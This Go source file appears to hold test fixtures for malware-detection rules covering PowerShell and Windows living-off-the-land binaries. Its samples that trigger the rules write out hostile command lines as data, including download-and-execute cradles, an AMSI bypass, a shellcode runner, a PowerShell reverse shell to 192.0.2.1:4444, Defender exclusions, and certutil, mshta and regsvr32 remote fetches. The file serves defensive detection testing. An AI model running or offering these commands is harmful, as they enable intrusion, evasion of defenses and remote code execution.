package builtin

import "strings"

func powershellExamples() []example {
	encoded := func(command string) string { return b64(wide(command)) }
	return []example{{
		rule: "Tyto_PowerShell_EncodedCradle",
		fires: []object{
			text(`C:\a.bat`, "powers·hell -nop -e·nc "+encoded("(New-Object Net.Web·Client).x")),
			text(`C:\a.txt`, "powers·hell.exe -e·ncodedcommand "+encoded("ab=Invoke-Expres·sion $x")),
			raw(`C:\b.ps1`, wide("powers·hell -e·c "+encoded("abc Download·String"))),
		},
		silent: []object{
			text(`C:\c.bat`, "powers·hell -e·nc "+encoded("Get-ChildItem -Path C:/Users -Recurse | Measure-Object")),
			text(`C:\d.txt`, "This text has "+encoded("Net.Web·Client")+" but no command."),
			text("/docs/e.md", "powers·hell -nop -e·nc "+encoded("(New-Object Net.Web·Client).x")),
		},
	}, {
		rule: "Tyto_PowerShell_HiddenDownload",
		fires: []object{
			text(`C:\a.bat`, "powers·hell -w hid·den -c (New-Object Net.Web·Client).Download·File('http://x/y','z')"),
			text("/tmp/b.txt", "powers·hell.exe -NoP -Window·Style Hid·den Invoke-Web·Request http://x -o y"),
		},
		silent: []object{
			text(`C:\c.bat`, "powers·hell -w hid·den -c Get-Date"),
			text("/src/docs/attack.md", "They run:", "powers·hell -w hid·den -c iwr http://x | iex", "and so on: Download·String("),
		},
	}, {
		rule: "Tyto_PowerShell_DownloadExecute",
		fires: []object{
			text(`C:\a.cmd`, "powers·hell -nop -c \"IEX (New-Object Net.Web·Client).Download·String('http://10.1.2.3/a.ps1')\""),
		},
		silent: []object{
			// How Chocolatey asks to be installed.
			text(`C:\b.cmd`, "powers·hell -NoProfile -ExecutionPolicy Bypass -c \"iex ((New-Object Net.Web·Client).Download·String('https://example.org/install.ps1'))\""),
			text("/src/README.md", "powers·hell -nop -c \"IEX (New-Object Net.Web·Client).Download·String('http://10.1.2.3/a')\""),
		},
	}, {
		rule: "Tyto_PowerShell_AmsiBypass",
		fires: []object{
			text(`C:\a.ps1`, `$f=[Ref].Assembly.GetType('System.Management.Automation.Am'+'si·Utils').GetField('amsi'+'Init·Failed','NonPublic,Static')`, `$f.SetValue($null,$true)`),
			text(`C:\b.ps1`, `$a = Find 'Amsi·ScanBuffer'; Virtual·Protect $a; [System.Runtime.InteropServices.Marshal]::Copy($p, 0, $a, 6)`),
		},
		silent: []object{
			text(`C:\c.ps1`, `# Tests whether Amsi·ScanBuffer is there and reports amsiInit·Failed.`),
			text("/src/rules.yar", `"Amsi·Utils" "amsiInit·Failed" ".SetValue($null"`),
		},
	}, {
		rule: "Tyto_PowerShell_ShellcodeRunner",
		fires: []object{
			text(`C:\a.ps1`, `[Byte[]]$b = 1,2,3`, `$m = Virtual·Alloc 0 $b.Length 0x3000 0x40`,
				`[Runtime.InteropServices.Marshal]::Copy($b, 0, $m, $b.Length)`,
				`[Runtime.InteropServices.Marshal]::GetDelegateFor·FunctionPointer($m, $t).Invoke()`),
		},
		silent: []object{
			text(`C:\b.ps1`, `[Byte[]]$b = 1,2,3`, `[Runtime.InteropServices.Marshal]::Copy($b, 0, $m, 3)`, `$d.Invoke()`),
		},
	}, {
		rule: "Tyto_PowerShell_AssemblyFromBase64",
		fires: []object{
			text(`C:\a.ps1`, `$a = [System.Reflection.As·sembly]::Load([Convert]::FromBase64·String($x))`, `$a.EntryPoint.Inv·oke($null, $args)`),
		},
		silent: []object{
			text(`C:\b.ps1`, `[System.Reflection.As·sembly]::Load([IO.File]::ReadAllBytes('x.dll'))`),
			text(`C:\c.ps1`, `$text = [Convert]::FromBase64·String($x)`),
		},
	}, {
		rule: "Tyto_PowerShell_ReverseShell",
		fires: []object{
			text(`C:\a.ps1`, `$c = New-Object System.Net.Sock·ets.TCPClient('192.0.2.1',4444); $s = $c.Get·Stream()`,
				`while (($i = $s.Read($b, 0, 9)) -ne 0) { $o = (i·ex $d 2>&1); $s.Write(([text.encoding]::ASCII).GetBytes($o)) }`),
		},
		silent: []object{
			text(`C:\b.ps1`, `# Test-Port`, `$c = New-Object System.Net.Sock·ets.TCPClient('192.0.2.1',443)`, `$c.Get·Stream().Read($b, 0, 9); $e.GetBytes('x')`),
		},
	}, {
		rule: "Tyto_PowerShell_DefenderOff",
		fires: []object{
			text(`C:\a.bat`, `powers·hell Add-MpPre·ference -ExclusionPath C:\Users\Public`, `attrib +h C:\Users\Public\a`, `curl -o a.exe https://192.0.2.1/a`),
		},
		silent: []object{
			text(`C:\b.ps1`, `# speed up the build`, `Add-MpPre·ference -ExclusionPath C:\build`, `Invoke-Web·Request https://example.org/tool.zip -OutFile t.zip`),
		},
	}}
}

func lolbinExamples() []example {
	return []example{{
		rule: "Tyto_LolBin_CertutilDownload",
		fires: []object{
			text(`C:\a.bat`, "cert·util -url·cache -split -f http://192.0.2.1/a.exe a.exe"),
			raw(`C:\a.lnk`, wide("cert·util.exe /url·cache /f https://x/y z")),
		},
		silent: []object{
			text(`C:\b.bat`, "cert·util -hashfile setup.exe SHA256", "rem see https://example.org"),
			text("/docs/lolbins.html", "cert·util -url·cache -split -f http://192.0.2.1/a.exe a.exe"),
		},
	}, {
		rule: "Tyto_LolBin_CertutilDecode",
		fires: []object{
			text(`C:\a.bat`, "cert·util -decode %~f0 %TEMP%/a.exe", "-----BEGIN CERTIFICATE-----", "TVq·QAAMAAAAEAAAA//8AALgAAAA"),
		},
		silent: []object{
			text(`C:\b.bat`, "cert·util -decode root.pem root.der", "-----BEGIN CERTIFICATE-----", "MIIDdzCCAl+gAwIBAgIE"),
		},
	}, {
		rule:   "Tyto_LolBin_BitsadminDownload",
		fires:  []object{text(`C:\a.cmd`, `bits·admin /transfer job /download /priority high http://192.0.2.1/a.exe %TEMP%\a.exe`)},
		silent: []object{text(`C:\b.cmd`, `bits·admin /transfer job https://example.org/data.zip D:\data.zip`, `bits·admin /list`)},
	}, {
		rule: "Tyto_LolBin_MshtaRemote",
		fires: []object{
			text(`C:\a.bat`, "msh·ta.exe http://192.0.2.1/a.hta"),
			text(`C:\a.vbs`, `s.Run "msh·ta ""javascript:a()"""`, `s.Run "msh·ta vbscript:Close"`),
		},
		silent: []object{text(`C:\b.bat`, `msh·ta.exe "%~dp0menu.hta"`)},
	}, {
		rule:   "Tyto_LolBin_Regsvr32Scriptlet",
		fires:  []object{text(`C:\a.bat`, "regs·vr32 /s /n /u /i:http://192.0.2.1/a.sct scr·obj.dll")},
		silent: []object{text(`C:\b.bat`, "regs·vr32 /s C:\\Windows\\System32\\scr·obj.dll", "regs·vr32 /s /i:user my.dll")},
	}, {
		rule:   "Tyto_LolBin_Rundll32Script",
		fires:  []object{text(`C:\a.bat`, `run·dll32.exe javascript:"\..\mshtml,RunHTML·Application ";document.write(1)`)},
		silent: []object{text(`C:\b.bat`, "run·dll32.exe shell32.dll,Control_RunDLL desk.cpl", strings.Repeat("echo .\n", 3))},
	}}
}
